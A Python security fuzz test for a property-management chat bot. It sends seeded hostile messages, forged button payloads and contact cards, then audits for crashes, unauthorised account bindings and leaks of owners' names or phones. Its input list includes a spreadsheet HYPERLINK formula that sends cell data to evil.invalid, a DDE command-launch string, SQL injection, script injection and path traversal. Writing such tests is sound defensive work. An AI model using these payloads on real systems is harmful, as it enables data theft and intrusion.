"""A bounded, seeded hostile-input fuzz through the real desk.

Owners, strangers and staff type hostile text (formulas, injections, huge, emoji, odd
Unicode digits, NUL, lone surrogates, phone numbers written every way, other owners'
full names), send commands with odd arguments, forward other people's contact cards,
press buttons they were shown, buttons shown to someone else (replayed), mutated and
forged payloads, and act in the staff groups.  Afterwards the run is audited:

* unhandled errors — a step that raised or made the desk log "failed to handle";
* unauthorised changes — a stranger bound, an owner bound to someone else, a staff
  binding changed, a case step recorded for an owner who does not own the case or for
  no staff member;
* leaks — an owner's full name or unmasked phone in any group message or log record,
  or in a stranger's chat (unless the stranger typed it themselves).

Crashes on input classes another change owns (#15: Unicode digits such as "²" that pass
`isdigit`, NUL, lone surrogates) are counted separately, not hidden: `known_intake`.
"""

from __future__ import annotations

import random
import re
from collections import Counter
from collections.abc import Callable
from dataclasses import dataclass, field

from sqlalchemy import select

from bot.bootstrap import App
from handlers.kit.messages import Inbound
from handlers.kit.payloads import CaseAction, Menu, NotMe, Pick, SurveyAnswer, encode
from storage import models as m
from tests.conftest import REGISTER_NAMES, REGISTER_PHONES, privacy_leaks

RESULTS: list[str] = []  # one line per run, printed in the test summary (tests/security/conftest.py)
GROUPS = ("工程部群", "秩序部群", "环境部群", "客服中心群", "管理处群")
OWNERS = {"o1": "13800000001", "o2": "13800000002", "o3": "13800000005"}
STRANGERS = ("s1", "s2", "s3", "s4")
STAFF = {"wq": "王强", "ly": "刘洋", "lj": "李静", "zl": "赵丽", "lzy": "林志远"}
ROOMS = ("1-1-101", "1-1-102", "1-1-601", "2-1-101", "3-1-602", "9-9-999", "1-1-1O1")
COMMANDS = ("/start", "/help", "/menu", "/cancel", "/lang", "/lang en", "/lang zh", "/lang xx", "/mute", "/unmute",
            "/mycases", "/mycases 1", "/mycases 99999999999999999999", "/mycases -1", "/mycases ²", "/notice",
            "/notices", "/callbacks", "/report", "/report 上周", "/report 2026-13-45 2026-01-01", "/spotcheck",
            "/coverage", "/my", "/team", "/case 1", "/case 1 accept", "/case x", "/start@other_bot", "/nosuch",
            "/START", "/ start")
CASE_VERBS = ("view", "cancel", "confirm", "reject", "accept", "start", "help", "show", "finish", "handback",
              "transfer", "status", "delete", "")
HOSTILE = (
    "", " ", "\n\n\t", "取消", "返回", "是", "否", "1", "5", "yes", "跳过", "完成", "今天", "明天上午",
    '=HYPERLINK("http://evil.invalid/?"&J2&K2,"点此查看照片")', "+1+cmd|' /C calc'!A0", "@SUM(A1:A9)", "-2+3",
    "'; DROP TABLE cases; --", "<script>alert(1)</script>", "{name}{0}%s%d{hotline}", "{{}}}", "../../etc/passwd",
    "\u202e反转文字", "漏水" * 1200, "😀" * 400, "a" * 5000, "厨房水管爆了，水漫出来了！", "楼道有烟味，好像着火了",
    "投诉保安态度差，晚上不让进门", "电梯坏了", "卫生间漏水 电话138.0000.0002 我是王芳", "我是张伟，身份证110101199003074518",
    "联系 １３８ ０００ ０００ ０５ 陈静", "打 138\u200b0000\u200b0003 找李娜", "Emily Carter 13800000020",
    "停车位被占了", "物业费怎么交", "想预约擦玻璃", "\x00", "漏水\x00\x00", "\ud800漏水", "²³¹", "١٢٣٤", "𝟙𝟛𝟠",
)
# What #15 (intake) fixes: crashes on these inputs are counted apart — recognised by the
# input itself, or (when an earlier input was kept in the conversation and fails later) by
# the error the desk logged.
_KNOWN_ERRORS = re.compile(r"surrogates not allowed|invalid literal for int\(\) with base 10: '[^']*[^\x00-\x7f]"
                           r"|0x00|NUL|null character")


def known_intake_class(text: str, error: str = "") -> bool:
    return ("\x00" in text or any(0xD800 <= ord(c) <= 0xDFFF for c in text)
            or any(c.isdigit() and not c.isascii() for c in text) or bool(_KNOWN_ERRORS.search(error)))


def phone_variant(rng: random.Random, phone: str) -> str:
    seps = ("", " ", ".", "_", "/", "-", "\u200b", "\u3000", " - ")
    digits = [chr(ord(d) + 0xFEE0) if rng.random() < 0.3 else d for d in phone]
    sep = rng.choice(seps)
    return f"{''.join(digits[:3])}{sep}{''.join(digits[3:7])}{sep}{''.join(digits[7:])}"


@dataclass
class Counts:
    inputs: int = 0
    unhandled: int = 0
    known_intake: int = 0
    unauthorised: int = 0
    group_leaks: int = 0
    stranger_leaks: int = 0
    log_leaks: int = 0
    kinds: Counter = field(default_factory=Counter)  # type: ignore[type-arg]
    examples: list[str] = field(default_factory=list)

    @property
    def leaks(self) -> int:
        return self.group_leaks + self.stranger_leaks + self.log_leaks

    def line(self) -> str:
        return (f"inputs {self.inputs}, unhandled errors {self.unhandled} (+{self.known_intake} in #15's known "
                f"input classes), unauthorised changes {self.unauthorised}, leaks {self.leaks} "
                f"(groups {self.group_leaks}, strangers' chats {self.stranger_leaks}, log records {self.log_leaks})")


class Fuzz:
    def __init__(self, app: App, seed: int, errors_logged: Callable[[], list[str]]) -> None:
        self.app = app
        # The "failed to handle" records (with their tracebacks) logged since the last call.
        self._errors = errors_logged
        self.rng = random.Random(seed)
        self.counts = Counts()
        self.seen: list[tuple[str, str]] = []  # (chat, payload) of buttons shown
        self.typed: dict[str, str] = {s: "" for s in STRANGERS}
        self.update = 0
        self.staff_ids: dict[str, int] = {}
        self.owner_ids: dict[str, int] = {}

    # ------------------------------------------------------------------ set-up
    async def setup(self) -> None:
        async with self.app.uow() as uow:
            community = await uow.directory.community()
            assert community is not None
            for user, name in STAFF.items():
                member = await uow.directory.staff_by_name(community.id, name)
                assert member is not None
                await uow.directory.bind("console", user, user, now=self.app.now(), staff_id=member.id)
                self.staff_ids[user] = member.id
            await uow.commit()
        for user, phone in OWNERS.items():
            await self._send(user, contact_phone=phone, contact_user_id=user)
            async with self.app.uow() as uow:
                identity = await uow.directory.identity("console", user)
                assert identity is not None and identity.owner_id is not None
                self.owner_ids[user] = identity.owner_id

    # ------------------------------------------------------------------ one step
    async def _send(self, user: str, *, chat: str | None = None, group: bool = False, **fields: object) -> None:
        self.update += 1
        inbound = Inbound(channel="console", chat_id=chat or user, user_id=user, is_group=group,
                          update_id=f"fz{self.update}", **fields)  # type: ignore[arg-type]
        outcome = await self.app.desk.handle(inbound)
        for reply in outcome.replies:
            for row in reply.buttons:
                for button in row:
                    self.seen.append((reply.chat_id, button.payload))
            text = reply.text + " " + " ".join(b.text for row in reply.buttons for b in row)
            if reply.chat_id in GROUPS and privacy_leaks(text):
                self.counts.group_leaks += 1
                self._example(f"group {reply.chat_id}: {text[:200]!r}")
            if reply.chat_id in STRANGERS:
                # What they typed, however written (full-width digits, separators), counts as theirs.
                mine = set(privacy_leaks(self.typed[reply.chat_id]))
                leaked = [w for w in privacy_leaks(text) if w not in mine]
                if leaked:
                    self.counts.stranger_leaks += 1
                    self._example(f"stranger {reply.chat_id} saw {leaked}: {text[:200]!r}")
        self.seen = self.seen[-300:]

    def _example(self, what: str) -> None:
        if len(self.counts.examples) < 8:
            self.counts.examples.append(what)

    def _text(self) -> str:
        rng = self.rng
        roll = rng.random()
        if roll < 0.55:
            return rng.choice(HOSTILE)
        if roll < 0.7:
            return f"{rng.choice(['电话', '我的手机', '联系'])}{phone_variant(rng, rng.choice(REGISTER_PHONES))}，{rng.choice(HOSTILE[:30])}"
        if roll < 0.85:  # words binding with wrong digits (the right ones are 00xx)
            return f"{rng.choice(ROOMS)} {rng.choice(REGISTER_NAMES)} {rng.randint(5000, 9999)}"
        return f"{rng.choice(REGISTER_NAMES)} {rng.choice(HOSTILE)}"

    def _forged(self) -> str:
        rng = self.rng
        big = rng.choice([0, 1, 2, 3, 5, 8, 13, 99, 10 ** 17, rng.randint(1, 60)])
        choices = [
            lambda: encode(CaseAction(rng.choice([v for v in CASE_VERBS if v]), big)),
            lambda: encode(SurveyAnswer(big, rng.choice(["solved", "speed", "attitude", "x"]), rng.choice(["1", "5", "yes", "9"]))),
            lambda: encode(Pick(rng.choice(["report", "binding", "booking", "notice", "x"]), rng.choice(["room", "confirm", "contact"]), big, "yes")),
            lambda: encode(NotMe(big)),
            lambda: encode(Menu(rng.choice(["report", "lang", "mycases", "nosuch"]))),
            lambda: rng.choice(["", "1", "1|", "2|c|accept|1", "1|c||1", "1|c|accept|", "1|c|accept|²", "1|c|accept|١",
                                "1|s|1|solved", "1|x|y", "|||||", "1|n|\x00", "1|m|" + "m" * 80, "1|c|accept|1\ud800"]),
        ]
        return rng.choice(choices)()

    def _mutated(self, payload: str) -> str:
        rng = self.rng
        parts = payload.split("|")
        how = rng.random()
        if how < 0.3 and parts:
            i = rng.randrange(len(parts))
            parts[i] = str(rng.choice([0, 1, 7, 10 ** 6, -1])) if parts[i].isdigit() else parts[i][::-1]
            return "|".join(parts)
        if how < 0.5:
            return payload[: rng.randrange(len(payload) + 1)]
        if how < 0.7:
            return payload + rng.choice(["|", "|1", "x", "²"])
        return "|".join(rng.sample(parts, len(parts)))

    async def step(self) -> None:
        rng = self.rng
        kind = rng.choices(["text", "command", "press_own", "press_other", "mutated", "forged", "contact",
                            "photo", "group"], [30, 10, 22, 10, 6, 8, 6, 3, 5])[0]
        self.counts.kinds[kind] += 1
        actor = rng.choice(list(OWNERS) * 3 + list(STRANGERS) * 2 + list(STAFF))
        sent = ""
        self._errors()
        try:
            if kind == "text":
                sent = self._text()
                self._typed(actor, sent)
                await self._send(actor, text=sent)
            elif kind == "command":
                sent = rng.choice(COMMANDS)
                self._typed(actor, sent)
                await self._send(actor, text=sent)
            elif kind in ("press_own", "press_other", "mutated"):
                mine = [p for c, p in self.seen if c == actor]
                pool = mine if kind == "press_own" and mine else [p for _, p in self.seen] or [self._forged()]
                sent = rng.choice(pool[-40:])
                if kind == "mutated":
                    sent = self._mutated(sent)
                await self._send(actor, payload=sent)
            elif kind == "forged":
                sent = self._forged()
                await self._send(actor, payload=sent)
            elif kind == "contact":
                phone = rng.choice(REGISTER_PHONES + ("13999999999", "12345", "+8613800000004", "１３８００００００01"))
                of = rng.choice([None, actor, "o1", "someone", ""]) if actor in STRANGERS else rng.choice([None, "s1"])
                if of == actor:
                    # The sender's own number, vouched for by the channel: a stranger's is never
                    # in the register (sharing a registered one would make them its owner).
                    phone = rng.choice(["13999999999", "12345", "+86 139 1111 2222", "١٣٩١١١١٢٢٢٢"])
                sent = phone
                await self._send(actor, contact_phone=phone, contact_user_id=of)
            elif kind == "photo":
                sent = rng.choice(["", "照片说明 13800000001", "\x00"])
                self._typed(actor, sent)
                await self._send(actor, photo=f"file-{rng.randint(1, 9)}", text=sent or None)
            else:  # in a staff group: anyone may write or press there
                group = rng.choice(GROUPS)
                cards = [p for c, p in self.seen if c == group]
                if cards and rng.random() < 0.7:
                    sent = rng.choice(cards[-20:])
                    await self._send(actor, chat=group, group=True, payload=sent)
                else:
                    sent = rng.choice(COMMANDS + HOSTILE[:20])
                    await self._send(actor, chat=group, group=True, text=sent)
        except Exception as exc:  # the desk must never raise
            self._crash(sent, f"raised {exc.__class__.__name__}", repr(exc))
        else:
            for error in self._errors():
                self._crash(sent, "logged 'failed to handle'", error)
        self.counts.inputs += 1

    def _typed(self, actor: str, text: str) -> None:
        """What a stranger typed may come back to them (the desk quotes it): not a leak."""
        if actor in STRANGERS:
            self.typed[actor] += text

    def _crash(self, sent: str, what: str, error: str) -> None:
        if known_intake_class(sent, error):
            self.counts.known_intake += 1
        else:
            self.counts.unhandled += 1
            self._example(f"{what} on {sent[:80]!r}")

    # ------------------------------------------------------------------ audit
    async def audit(self) -> None:
        async with self.app.uow() as uow:
            identities = {r.user_id: (r.owner_id, r.staff_id) for r in await uow.session.scalars(
                select(m.Identity).where(m.Identity.channel == "console"))}
            owner_of_case = dict((await uow.session.execute(select(m.Case.id, m.Case.owner_id))).all())
            entries = (await uow.session.execute(select(
                m.TimelineEntry.case_id, m.TimelineEntry.action, m.TimelineEntry.actor_kind,
                m.TimelineEntry.actor_id))).all()
        bad = 0
        for user in STRANGERS:
            owner_id, staff_id = identities.get(user, (None, None))
            if owner_id is not None or staff_id is not None:
                bad += 1
                self._example(f"stranger {user} bound: owner {owner_id} staff {staff_id}")
        for user, mine in self.owner_ids.items():
            owner_id, staff_id = identities[user]
            if owner_id not in (mine, None) or staff_id is not None:
                bad += 1
                self._example(f"owner {user} now bound to owner {owner_id} / staff {staff_id}")
        for user, mine in self.staff_ids.items():
            owner_id, staff_id = identities[user]
            if staff_id != mine or owner_id is not None:
                bad += 1
                self._example(f"staff {user} now staff {staff_id} / owner {owner_id}")
        staff = set(self.staff_ids.values())
        for case_id, action, actor_kind, actor_id in entries:
            if actor_kind == "owner" and actor_id != owner_of_case[case_id]:
                bad += 1
                self._example(f"case {case_id} {action} by owner {actor_id}, owned by {owner_of_case[case_id]}")
            if actor_kind == "staff" and actor_id not in staff:
                bad += 1
                self._example(f"case {case_id} {action} by staff {actor_id}")
        self.counts.unauthorised = bad
